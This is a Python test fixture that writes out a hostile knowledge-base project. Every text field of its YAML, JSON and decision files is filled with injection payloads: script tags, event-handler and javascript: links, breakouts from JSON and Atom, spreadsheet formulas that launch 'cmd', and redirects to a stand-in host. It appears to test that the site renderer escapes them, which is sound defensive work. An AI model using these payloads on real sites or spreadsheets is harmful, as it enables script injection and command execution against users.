"""A knowledge base that passes its check and means harm to whoever opens its site.

Every field that takes words holds a payload; each would say `pwned` to the page, or ask another
origin, if anything of it ran.
"""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path

from kb.model.evidence import Evidence
from kb.model.gates import plain, sealed
from kb.rules.example import base_files

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</title></script><script src=https://elsewhere.example/a.js></script>",
    "<img src=https://elsewhere.example/a.png onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1><style>@import url(https://elsewhere.example/a.css)</style></svg>",
    "](javascript:window.pwned=1) [x](javascript:window.pwned=1)",
    "[y](data:text/html,<script>window.pwned=1</script>)",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "{: onclick=window.pwned=1 style=background:url(https://elsewhere.example/b) }",
    "![x](https://elsewhere.example/c.png) <https://elsewhere.example/d>",
    "# head\\n- *list* **bold** `code` | cell |",
    "</details></div></article><iframe src=https://elsewhere.example/e></iframe>",
    '"},"x":"</script><script>window.pwned=1</script><!--<script>',
    ']]></summary><entry><content type="html">&lt;script&gt;window.pwned=1//',
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "@own@ @title0@ @nothing@ <use style=fill:red>",
    '=HYPERLINK("https://elsewhere.example/f";"x")',
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "<base href=https://elsewhere.example/><meta http-equiv=refresh content=0;url=/g>",
    "<form action=https://elsewhere.example/h><button formaction=javascript:window.pwned=1>",
    "$\\frac{ <math><mtext><script>window.pwned=1</script>",
    "{{ config }} {% raw %} ${window.pwned=1} ```html\\n<script>",
    "<link rel=stylesheet href=https://elsewhere.example/i.css><object data=//elsewhere.example/j>",
)
WORDS = "name|vendor|summary|title|publisher|version|locator|reasoning|assessment|topology|note"
_FIELD = re.compile(
    rf"(?m)(?P<key>^\s*(?:{WORDS}): ).+$|(?P<within>[{{,]\s*(?:{WORDS}): )[^,{{}}\n]+"
)
_ROUTES = (
    ("command",), ("device", "speaks_for"), ("device", "kind"), ("environment", "cpu_model"),
    ("environment", "backend_version"), ("environment", "operating_system"),
    ("environment", "machine"),
)  # fmt: skip
DECISION = """\
---
id: "{key}"
title: {0}
status: hypothesis
date: 2026-11-30
decision-makers: [{1}]
question: {2}
options:
  - {{id: acme, title: {3}, framework: {4}, accelerator: acme-x1}}
  - {{id: bolt, title: {5}, framework: {4}, accelerator: bolt-b8}}
varied: [accelerator]
controlled: [{6}]
comparisons:
  - {{left: bolt-b8/gpu-hbm-bandwidth, right: acme-x1/chip-hbm-bandwidth, note: {7}}}
evidence: [matmul-acme-x1-1]
next_measurement: {8}
cost: {9}
portability: {10}
---

# {body}

{body} is what [180 GB](claim:bolt-b8/gpu-hbm-capacity) is.

- {body}

> {body}

| a | b |
|---|--:|
| {body} | x |

```html
{body}
```
"""


def files() -> dict[str, str]:
    """The files of the project by their paths."""
    found = {}
    turn = itertools.cycle(PAYLOADS)
    for path, text in base_files().items():
        if path.endswith(".yml"):
            found[path] = _FIELD.sub(lambda m: (m["key"] or m["within"]) + quoted(next(turn)), text)
            found[path] = found[path].replace("kind: Acme X1", f"kind: {quoted(_reported())}")
        elif path.endswith(".json"):
            found[path] = record(text)
    for number, body in enumerate(PAYLOADS, 1):
        words = [quoted(next(turn)) for _ in range(13)]  # 13 and 23: each payload in each field
        text = DECISION.format(*words, key=f"{number:04d}", body=body)
        found[f"decisions/{number:04d}-hostile.md"] = text
    return found


def _reported() -> str:
    """What the device of the record calls itself: its product has to name it."""
    return dict(zip(_ROUTES, PAYLOADS, strict=False))["device", "kind"]


def quoted(text: str) -> str:
    """A text as one YAML value."""
    return "'" + text.replace("'", "''") + "'"


def record(text: str) -> str:
    """A record of evidence whose words are payloads, sealed as if it had been measured so."""
    data = json.loads(text)
    for route, payload in zip(_ROUTES, PAYLOADS, strict=False):
        *way, last = route
        place = data
        for step in way:
            place = place[step]
        place[last] = payload
    data["environment"]["flags"] = {"XLA_FLAGS": PAYLOADS[1]}
    return json.dumps(plain(sealed(Evidence.model_validate_json(json.dumps(data)))), indent=2)


def lay_out(folder: Path) -> None:
    """Write the project into a folder."""
    for path, text in files().items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, encoding="utf-8")
